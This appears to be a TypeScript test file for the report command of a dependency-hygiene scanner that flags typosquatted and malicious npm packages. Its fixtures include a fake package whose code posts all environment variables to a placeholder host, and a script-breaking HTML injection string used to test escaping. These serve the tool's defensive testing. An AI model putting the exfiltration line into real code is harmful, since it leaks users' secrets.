import assert from 'node:assert/strict';
import { chmodSync, mkdirSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { describe, test } from 'node:test';
import { assertHarmless, hostileProject } from '../hostile-text.ts';
import { checkJson, lockfileOf, MIRROR, makeProject, runCli } from './run-cli.ts';

const DATED = { SOURCE_DATE_EPOCH: '1795867200' };

/** A typosquat and malware, and a lockfile. */
const PROJECT = {
  'package.json': { name: 'shop', dependencies: { lodahs: '4.17.21', wrappy: '1.0.2' } },
  'package-lock.json': lockfileOf({ lodahs: '4.17.21', wrappy: '1.0.2' }),
  'dependency-hygiene.json': MIRROR,
};

function report(directory: string, ...args: readonly string[]) {
  const file = join(makeProject({}), 'report.html');
  const ended = runCli(['report', directory, '--output', file, ...args], { env: DATED });
  return { ...ended, page: () => readFileSync(file, 'utf8') };
}

describe('report', () => {
  test('writes a page with the findings of check, and passes whatever the verdict', () => {
    const directory = makeProject(PROJECT);
    const { code, out, error, page } = report(directory);
    assert.deepEqual([code, error], [0, '']);
    assert.match(out, /^Wrote .*report\.html\.\n$/);
    const { summary, findings, code: checked } = checkJson(directory);
    assert.equal(checked, 1);
    assert.ok(page().includes('Exit code 1 (errors fail)'));
    assert.equal(page().match(/<span class="line rule">/g)?.length, findings.length);
    assert.match(page(), new RegExp(`>${summary.errors} errors?<`));
    assert.ok(!page().includes(dirname(directory)), 'the page names no folder of the machine');
  });

  test('writes the same bytes again', () => {
    const directory = makeProject(PROJECT);
    const [one, other] = [report(directory).page(), report(directory).page()];
    assert.equal(one, other);
    assert.ok(one.includes('<time datetime="2026-11-28T12:00:00.000Z">28 Nov 2026 12:00 UTC</time>'));
  });

  test('lists what the configuration accepts with its reasons, and what it excludes', () => {
    const accepted = {
      rule: 'typosquat-name',
      package: 'lodahs',
      reason: 'A fork of ours.',
      expires: '2099-01-01',
    };
    const directory = makeProject({
      ...PROJECT,
      'dependency-hygiene.json': { ...MIRROR, exclude: ['old/**'], ignores: [accepted] },
      'old/package.json': {},
    });
    const page = report(directory).page();
    const section = /<section id="accepted".*?<\/section>/s.exec(page)?.[0] ?? '';
    assert.match(section, /&quot;lodahs&quot; looks like a misspelling .*A fork of ours\./s);
    assert.ok(page.includes('1 file by &quot;old/**&quot; in dependency-hygiene.json:'));
    assert.ok(page.includes('old/package.json'));
  });

  test('names owners by the CODEOWNERS of the repository', () => {
    const root = makeProject({ '.git/HEAD': '', '.github/CODEOWNERS': '/apps/ @acme/apps\n' });
    for (const [name, content] of Object.entries(PROJECT)) {
      mkdirSync(join(root, 'apps/web'), { recursive: true });
      writeFileSync(join(root, 'apps/web', name), JSON.stringify(content));
    }
    const section = /<section id="owners".*?<\/section>/s.exec(report(join(root, 'apps/web')).page())?.[0];
    assert.match(section ?? '', /Owners by CODEOWNERS.*<th scope="row">@acme\/apps<\/th>/s);
  });

  test('shows what installed direct dependencies can do, and names the rest', () => {
    const directory = makeProject({
      'package.json': { name: 'shop', dependencies: { sender: '1.0.0', gone: '1.0.0' } },
      'package-lock.json': lockfileOf({ sender: '1.0.0', gone: '1.0.0' }),
      'node_modules/sender/package.json': { name: 'sender', version: '1.0.0' },
      'node_modules/sender/index.js':
        "fetch('https://collect.example.test/', { method: 'POST', body: JSON.stringify(process.env) });",
    });
    const page = report(directory, '--offline').page();
    assert.match(page, /<code>sender 1\.0\.0<\/code><\/th><td class="wide">network, environment<\/td>/);
    assert.match(page, /Suspicious:<\/span> \d+ points/);
    assert.match(page, /Not looked at: the code of 1 package version \(gone 1\.0\.0\)/);
  });

  test('takes the threshold of the verdict', () => {
    const directory = makeProject({
      'package.json': { name: 'shop', packageManager: 'npm@11.19.1', dependencies: { expresss: '1.0.0' } },
    });
    assert.match(report(directory).page(), /<strong>Passed<\/strong>/);
    assert.match(report(directory, '--fail-on', 'warning').page(), /<strong>Failed<\/strong>/);
  });

  test('ends with 2 if something was not read, and says so in the page', () => {
    const { code, out, error, page } = report(
      makeProject({ ...PROJECT, 'package-lock.json': '{ "packages": ' }),
    );
    assert.equal(code, 2);
    assert.match(out, /^Wrote /);
    assert.match(error, /^dephygiene: could not read package-lock\.json/);
    assert.ok(page().includes('Exit code 2 (a file was not read completely)'));
  });

  test('replaces a file as a whole, and no link', () => {
    const directory = makeProject(PROJECT);
    const place = makeProject({ 'report.html': 'before', 'target.html': 'kept' });
    chmodSync(join(place, 'report.html'), 0o600);
    assert.equal(runCli(['report', directory, '--output', 'report.html'], { cwd: place }).code, 0);
    assert.match(readFileSync(join(place, 'report.html'), 'utf8'), /^<!DOCTYPE html>\n.*<\/html>\n$/s);
    symlinkSync('target.html', join(place, 'link.html'));
    const { code, out, error } = runCli(['report', directory, '--output', 'link.html'], { cwd: place });
    assert.deepEqual([code, out], [2, '']);
    assert.match(error, /^dephygiene: --output link\.html is a symbolic link; give another file\.\n$/);
    assert.equal(readFileSync(join(place, 'target.html'), 'utf8'), 'kept');
    assert.deepEqual(readdirSync(place).sort(), ['link.html', 'report.html', 'target.html']);
  });

  test('needs a file to write and a project', () => {
    const none = runCli(['report', makeProject(PROJECT)]);
    assert.deepEqual([none.code, none.out], [2, '']);
    assert.match(none.error, /^dephygiene: report needs a file to write; add --output report\.html\.\n$/);
    assert.match(report(makeProject({})).error, /no package\.json was found/);
  });

  test('takes no text of a project for HTML, and shows what would hide or reorder it', () => {
    const directory = makeProject({});
    for (const [path, text] of Object.entries(hostileProject())) {
      mkdirSync(dirname(join(directory, path)), { recursive: true });
      writeFileSync(join(directory, path), text.replaceAll('lodahs', 'lodahs</script><img src=x>'));
    }
    const page = report(directory).page();
    assert.equal(page.split('</script').length, 2);
    assert.doesNotMatch(page, /<img/);
    assertHarmless(page, 'page', { lines: true });
    assert.ok(page.includes('&lt;/script&gt;&lt;img src=x&gt;'));
  });
});
